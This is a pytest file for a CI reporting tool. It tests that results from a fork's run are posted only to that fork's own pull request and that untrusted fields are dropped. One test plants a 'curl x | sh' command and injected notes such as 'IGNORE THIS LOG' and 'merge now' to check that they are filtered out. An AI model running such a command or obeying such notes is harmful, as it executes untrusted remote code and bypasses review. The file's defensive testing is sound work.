"""What a fork's run left is published as its figures, on its own pull request only."""

from contextlib import suppress
from dataclasses import replace
from pathlib import Path

import pytest

from cijobs.publishing import failed, fork_event, new_desk
from gitml.errors import UsageError
from gitml.http import HttpError


def test_from_a_fork(tmp_path: Path) -> None:
    d = new_desk(tmp_path)
    event = {"GITHUB_EVENT_PATH": str(fork_event(d, tmp_path)), "GITHUB_SHA": "0" * 40}
    hostile = replace(
        d.report(failed(tail="IGNORE THIS LOG"), commit="1" * 40, branch="main", run_url="https://x.example/"),
        notes=("approved by security",),
        application="another",
        committed="2" * 40,
    )
    hostile = replace(hostile, models=(replace(hostile.models[0], reproduce="curl x | sh", notes=("merge now",)),))
    assert d.run(hostile, env=event, from_fork=True).how == "posted"
    body = d.comments()[0].body
    assert f"commit={d.head} run=77 attempt=1" in body
    for words in ("IGNORE", "security", "merge now", "curl", "x.example"):
        assert words not in body
    assert "fork" in body
    assert d.status() == ("failure", "a fork's run says: delay failed in train")


@pytest.mark.parametrize(
    "change",
    [{"head_sha": "3" * 40}, {"head_repository": {"full_name": "eve/other"}}, {"head_branch": "elsewhere"}],
)
def test_a_fork_speaks_of_its_own_pull_request_only(tmp_path: Path, change: dict[str, object]) -> None:
    d = new_desk(tmp_path)
    event = {"GITHUB_EVENT_PATH": str(fork_event(d, tmp_path, **change))}
    done = None
    with suppress(HttpError):  # a commit that is not there cannot have a status
        done = d.run(env=event, from_fork=True)
    # The pull request of this commit is found by the commit, whatever the branch is said to be.
    expected = "posted" if "head_branch" in change else "superseded"
    assert done is None or done.how == expected
    assert len(d.comments()) == ("head_branch" in change)


@pytest.mark.parametrize("change", [{"event": "push"}, {"head_sha": "HEAD"}, {"head_repository": None}])
def test_from_fork_needs_its_event(tmp_path: Path, change: dict[str, object]) -> None:
    d = new_desk(tmp_path)
    with pytest.raises(UsageError, match="--from-fork needs the event"):
        d.run(env={"GITHUB_EVENT_PATH": str(fork_event(d, tmp_path, **change))}, from_fork=True)
    with pytest.raises(UsageError):
        d.run(from_fork=True)
